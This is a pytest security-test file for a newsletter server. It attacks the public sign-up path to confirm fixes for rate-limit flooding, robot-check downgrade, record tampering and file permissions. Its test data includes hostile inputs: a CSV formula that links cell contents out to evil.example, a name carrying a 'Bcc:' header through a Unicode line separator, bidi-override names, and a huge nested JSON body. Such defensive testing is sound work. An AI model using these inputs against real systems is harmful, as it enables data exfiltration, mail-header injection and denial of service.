"""Attacks on the public sign-up path, black box (issue 10): filling the rate-limit
table, slipping past the limit with malformed bodies, downgrading the robot check,
changing an existing reader through an anonymous sign-up, and what follows from it.

    BROADSHEET_BIN=build/broadsheet /usr/bin/python3 -m pytest -q tests/system/test_attacks_signup.py

Distinct client addresses come from binding the client socket to addresses of
127.0.0.0/8, all of which are the local machine.
"""

from __future__ import annotations

import http.client
import json
import os
import pathlib
import stat
from concurrent.futures import ThreadPoolExecutor

import pytest

from backend import ON_POSTGRES
from conftest import (Reply, assert_fails, assert_ok, copy_data_folder, data_args, export_rows,
                      free_port, get, request, run, subscriber)
from signup_helpers import (API, CHALLENGE, FAST_ROBOT, MSG_RATE_LIMITED, error_codes,
                            fetch_challenge, new_address, robot, solve)


def post_from(server, source: str, body, timeout: float = 10) -> Reply:
    """POSTs a JSON sign-up body from the local address `source`."""
    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=timeout,
                                      source_address=(source, 0))
    try:
        raw = body if isinstance(body, bytes) else json.dumps(body).encode()
        conn.request("POST", API, body=raw, headers={"Content-Type": "application/json"})
        r = conn.getresponse()
        return Reply(r.status, r.reason, r.getheaders(), r.read())
    finally:
        conn.close()


def good_body(server, **extra) -> dict:
    return {"email": new_address(), "newsletters": ["morning-briefing"],
            "altcha": robot(server), **extra}


def codes(replies) -> list[int]:
    return [r.status for r in replies]


# --- defect 2: the rate-limit table -----------------------------------------------------


def test_a_flood_of_garbage_from_many_addresses_blocks_no_one(demo, server_factory):
    """A full table used to refuse every new client: garbage from more addresses than
    it holds made every later, correctly solved sign-up a 429."""
    s = server_factory(demo, {**FAST_ROBOT, "BROADSHEET_SIGNUP_RATE_TABLE_SIZE": "20",
                              "BROADSHEET_SIGNUP_RATE_PER_CLIENT": "2"})
    flood = [post_from(s, f"127.0.1.{i}", {}) for i in range(1, 41)]
    assert codes(flood) == [422] * 40
    for i in range(1, 6):
        r = post_from(s, f"127.0.2.{i}", good_body(s))
        assert r.status == 202, r


def test_garbage_cannot_evict_the_count_of_real_attempts(demo, server_factory):
    """Attempts without a valid robot check are counted apart: a flood of them from many
    addresses does not push a client's real attempts out of the table (which would
    give it a fresh budget), and does not use up anyone's."""
    s = server_factory(demo, {**FAST_ROBOT, "BROADSHEET_SIGNUP_RATE_TABLE_SIZE": "20",
                              "BROADSHEET_SIGNUP_RATE_PER_CLIENT": "2"})
    heavy = "127.0.3.1"
    assert codes(post_from(s, heavy, good_body(s)) for _ in range(2)) == [202, 202]
    assert post_from(s, heavy, good_body(s)).status == 429
    assert codes(post_from(s, f"127.0.4.{i}", {"email": "x"}) for i in range(1, 41)) == [422] * 40
    assert post_from(s, heavy, good_body(s)).status == 429
    assert post_from(s, "127.0.3.2", good_body(s)).status == 202


def test_a_client_sending_garbage_is_limited_too(demo, server_factory):
    s = server_factory(demo, {**FAST_ROBOT, "BROADSHEET_SIGNUP_RATE_PER_CLIENT": "3"})
    bad = {"email": new_address(), "newsletters": ["morning-briefing"], "altcha": "garbage"}
    replies = [post_from(s, "127.0.5.1", bad) for _ in range(5)]
    assert codes(replies) == [422, 422, 422, 429, 429]
    assert replies[-1].json()["error"] == {"code": "rate_limited", "message": MSG_RATE_LIMITED}
    assert post_from(s, "127.0.5.2", good_body(s)).status == 202


# --- defect 7: malformed bodies past the limit -------------------------------------------


def test_a_limited_client_gets_429_for_wrongly_typed_bodies(demo, server_factory):
    """A body with a wrongly typed field went to a check that verified the robot check
    and read the newsletters with no limit, for a client already answered 429."""
    s = server_factory(demo, {**FAST_ROBOT, "BROADSHEET_SIGNUP_RATE_PER_CLIENT": "2"})
    me = "127.0.6.1"
    assert codes(post_from(s, me, good_body(s)) for _ in range(2)) == [202, 202]
    assert post_from(s, me, good_body(s)).status == 429
    for field, value in [("name", 5), ("email", []), ("newsletters", "x"), ("altcha", {})]:
        r = post_from(s, me, good_body(s, **{field: value}))
        assert r.status == 429, (field, r)
        assert r.json()["error"]["code"] == "rate_limited"


def test_wrongly_typed_bodies_are_counted(demo, server_factory):
    s = server_factory(demo, {**FAST_ROBOT, "BROADSHEET_SIGNUP_RATE_PER_CLIENT": "2"})
    me = "127.0.7.1"
    first = post_from(s, me, good_body(s, name=5))
    assert first.status == 422 and ("name", "invalid_name") in error_codes(first)
    assert post_from(s, me, good_body(s, name=5)).status == 422
    assert post_from(s, me, good_body(s, name=5)).status == 429
    assert post_from(s, me, good_body(s)).status == 429  # and the client is limited
    assert post_from(s, "127.0.7.2", good_body(s)).status == 202


# --- defect 6: robot-check downgrade -------------------------------------------------------


@pytest.fixture
def robot_pair(tmp_path_factory, _templates, server_factory):
    """Two servers on copies of one data folder (so one robot secret): version 2 alone,
    and version 2 accepting v1 during a change of version."""
    servers = {}
    for name, extra in (("strict", {}), ("transition", {"BROADSHEET_ROBOT_ACCEPT_PREVIOUS": "true"})):
        data = tmp_path_factory.mktemp(name) / "data"
        copy_data_folder(_templates["demo"], data)
        servers[name] = server_factory(data, {**FAST_ROBOT, **extra})
    return servers


def test_v1_challenges_are_not_issued_when_version_is_2(robot_pair):
    s = robot_pair["strict"]
    r = get(s, f"{CHALLENGE}?v=1")
    assert r.status == 400, r
    assert r.json()["error"]["code"] == "invalid_version"
    assert "2" in r.json()["error"]["message"]
    assert "parameters" in fetch_challenge(s, None)  # what the embed widget asks for
    assert "parameters" in fetch_challenge(s, "2")


def test_v1_solutions_are_refused_when_version_is_2(robot_pair):
    strict, transition = robot_pair["strict"], robot_pair["transition"]
    v1 = solve(fetch_challenge(transition, "1"))  # signed with the secret both share
    body = {"email": new_address(), "newsletters": ["morning-briefing"], "altcha": v1}
    r = post_from(strict, "127.0.8.1", body)
    assert r.status == 422 and error_codes(r) == [("altcha", "robot_check_failed")]
    assert subscriber(strict.data, body["email"]) is None
    # The transition setting accepts both.
    assert post_from(transition, "127.0.8.1", body).status == 202
    assert post_from(transition, "127.0.8.1", good_body(transition)).status == 202


# --- defect 5: an anonymous sign-up changes an existing reader ---------------------------


@pytest.mark.parametrize("named", [True, False])
def test_a_sign_up_does_not_change_a_reader_on_file(demo, server_factory, named):
    """Signing up an address already on file used to move its time zone and fill an
    empty name (which reaches the To: header of every email), with no word from its
    owner."""
    address = new_address("known")
    extra = ["--name", "Ada Lovelace"] if named else []
    assert_ok(run("subscriber", "add", address, "--timezone", "Asia/Tokyo",
                  "--newsletter", "morning-briefing", "--confirmed", *extra, *data_args(demo)))
    before = subscriber(demo, address)
    s = server_factory(demo, FAST_ROBOT)
    r = post_from(s, "127.0.9.1", good_body(s, email=address, timezone="America/New_York",
                                            name='Click "http://evil.example" now'))
    assert r.status == 202, r  # the same answer as for anyone: nothing tells it is known
    r = post_from(s, "127.0.9.1", good_body(s, email=address, newsletters=["the-long-read"],
                                            timezone="Pacific/Auckland", name="Mallory"))
    assert r.status == 202, r
    after = subscriber(demo, address)
    for key in ("name", "timezone", "email", "status"):
        assert after[key] == before[key], (key, before, after)
    assert after["name"] == ("Ada Lovelace" if named else "")
    assert after["timezone"] == "Asia/Tokyo"


# --- defect 8: CSV formula injection -------------------------------------------------------


def test_export_neutralises_formulas_in_names(demo, server_factory):
    s = server_factory(demo, FAST_ROBOT)
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
    names = {new_address("f"): formula, new_address("p"): "+1 555", new_address("m"): "-x",
             new_address("a"): "@SUM(A1)", new_address("ok"): "Ada Lovelace"}
    for address, name in names.items():
        r = post_from(s, "127.0.10.1", good_body(s, email=address, name=name))
        assert r.status == 202, r
    rows = {r["email"]: r["name"] for r in export_rows(demo)}
    for address, name in names.items():
        expected = name if name == "Ada Lovelace" else "'" + name
        assert rows[address] == expected, (address, rows[address])


# --- defect 10: data files readable by other users ---------------------------------------


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


# The database's own files in the data folder: SQLite's; on PostgreSQL the data lives in
# the server's cluster, whose files are the server's to guard, and the folder has none.
DATABASE_FILES = [] if ON_POSTGRES else ["broadsheet.db"]


def test_init_in_an_existing_folder_makes_every_data_file_private(tmp_path):
    d = tmp_path / "data"
    d.mkdir(mode=0o755)
    os.chmod(d, 0o755)  # whatever the umask left
    assert_ok(run("init", *data_args(d)))
    # What an older init, a copy or a restore may leave: everything open to others.
    opened = [d / "broadsheet.toml", d / "secrets" / "hmac.key", *(d / f for f in DATABASE_FILES)]
    for p in opened:
        os.chmod(p, 0o644)
    os.chmod(d / "secrets", 0o755)
    journals = [d / f"{f}-journal" for f in DATABASE_FILES]
    for p in journals:
        p.write_bytes(b"")
        os.chmod(p, 0o666)
    assert_ok(run("init", *data_args(d)))
    for p in opened + journals:
        assert mode(p) == 0o600, (p, oct(mode(p)))
    assert mode(d) == 0o700 and mode(d / "secrets") == 0o700


def test_a_new_data_folder_is_private_with_a_wide_umask(tmp_path):
    d = tmp_path / "fresh"
    old = os.umask(0o000)
    try:
        assert_ok(run("init", *data_args(d)))
    finally:
        os.umask(old)
    for p in (d / "broadsheet.toml", d / "secrets" / "hmac.key", *(d / f for f in DATABASE_FILES)):
        assert mode(p) == 0o600, (p, oct(mode(p)))
    assert mode(d) == 0o700


@pytest.mark.skipif(ON_POSTGRES, reason="SQLite's WAL and shared-memory files")
def test_the_database_side_files_of_a_running_server_are_private(demo, server_factory):
    s = server_factory(demo, FAST_ROBOT)
    assert post_from(s, "127.0.11.1", good_body(s)).status == 202  # the WAL is written
    for suffix in ("-wal", "-shm"):
        p = demo / f"broadsheet.db{suffix}"
        assert p.exists(), p
        assert mode(p) == 0o600, (p, oct(mode(p)))


def test_serve_warns_about_files_open_to_others(demo, server_factory):
    os.chmod(demo / "broadsheet.toml", 0o644)
    for f in DATABASE_FILES:
        os.chmod(demo / f, 0o640)
    s = server_factory(demo, FAST_ROBOT)
    log = s.log()
    for name in ["broadsheet.toml", *DATABASE_FILES]:
        lines = [l for l in log.splitlines() if str(demo / name) + " " in l + " "
                 and "warn" in l.lower()]
        assert len(lines) == 1, (name, log)
        assert "chmod 600" in lines[0] and str(demo / name) in lines[0], lines[0]
    assert "hmac.key" not in log  # only what is too open is named


# --- smaller: real mail with links readers cannot reach ----------------------------------


@pytest.mark.parametrize("host", ["0.0.0.0", "[::]"])
def test_serve_refuses_real_mail_without_a_base_url_on_a_wildcard_address(data, host):
    env = {"BROADSHEET_TRANSPORT": "smtp", "BROADSHEET_SMTP_HOST": "127.0.0.1",
           "BROADSHEET_SMTP_TLS": "none", "BROADSHEET_PUBLICATION_BASE_URL": ""}
    cp = run("serve", *data_args(data), "--listen", f"{host}:{free_port()}", env=env, timeout=20)
    assert_fails(cp, "publication.base_url")


# --- smaller: names that read otherwise than they are written ----------------------------

TRICKY_NAMES = {"U+202E": "Ada \u202eecnaleciL", "U+2028": "Ada\u2028Bcc: x@evil.example",
                "U+2029": "Ada\u2029x", "U+0085": "Ada\u0085x", "U+2066": "Ada \u2066x\u2069"}


@pytest.mark.parametrize("name", TRICKY_NAMES.values(), ids=TRICKY_NAMES.keys())
def test_sign_up_refuses_names_that_are_not_one_plain_line(demo, server_factory, name):
    s = server_factory(demo, FAST_ROBOT)
    body = good_body(s, name=name)
    r = post_from(s, "127.0.12.1", body)
    assert r.status == 422 and error_codes(r) == [("name", "invalid_name")], r
    assert subscriber(demo, body["email"]) is None


def test_import_and_cli_refuse_names_that_are_not_one_plain_line(demo, tmp_path):
    good, bad = new_address("good"), {n: new_address("bad") for n in TRICKY_NAMES}
    lines = ["email,name", f"{good},Ada Lovelace"]
    lines += [f"{address},{TRICKY_NAMES[n]}" for n, address in bad.items()]
    csv_file = tmp_path / "readers.csv"
    csv_file.write_text("\n".join(lines) + "\n", encoding="utf-8")
    cp = run("import", csv_file, "--newsletter", "morning-briefing", *data_args(demo))
    imported = {r["email"] for r in export_rows(demo)}
    assert good in imported, cp.stderr
    assert not imported & set(bad.values()), cp.stderr
    for n, name in TRICKY_NAMES.items():
        cp = run("subscriber", "add", new_address("cli"), "--name", name, *data_args(demo))
        assert_fails(cp, "--name")


# --- issue 17, item 5: authenticated JSON parsing multiplied memory ----------------------


def rss_kib(pid: int, field: str) -> int:
    """VmRSS (now) or VmHWM (the peak so far) of a process, in KiB."""
    for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    raise AssertionError(f"no {field} in /proc/{pid}/status")


def test_a_huge_json_document_from_a_token_holder_costs_no_memory(demo, server_factory):
    """One 6 MiB body of empty arrays took the server to 90 MB; 48 at once, 4.47 GB."""
    assert_ok(run("user", "add", "editor", *data_args(demo), input="correct horse battery\n"))
    token = assert_ok(run("token", "create", "--name", "tool", *data_args(demo))).stdout.strip()
    s = server_factory(demo, {"BROADSHEET_HTTP_API_BODY_LIMIT": str(8 << 20)})
    body = b"[" + b"[]," * (2 << 20) + b"[]]"
    assert len(body) > 6 << 20
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    before = rss_kib(s.proc.pid, "VmHWM")

    def post(_):
        return request(s, "POST", "/api/v1/issues", body=body, headers=headers, timeout=30)

    with ThreadPoolExecutor(4) as pool:
        replies = list(pool.map(post, range(8)))
    for r in replies:
        assert r.status == 400, r
        assert r.json()["error"]["code"] == "invalid_json"
    grown = rss_kib(s.proc.pid, "VmHWM") - before
    # Each body is held once or twice while it is read (4 at a time, 24 MiB each at
    # most); parsing one used to add 90 MB on its own.
    assert grown < 128 * 1024, f"peak RSS grew by {grown} KiB"
    # And the server still answers a good request.
    good = {"newsletter": "morning-briefing", "subject": "Tuesday", "body_markdown": "Hi"}
    r = request(s, "POST", "/api/v1/issues", body=json.dumps(good).encode(), headers=headers)
    assert r.status == 201, r
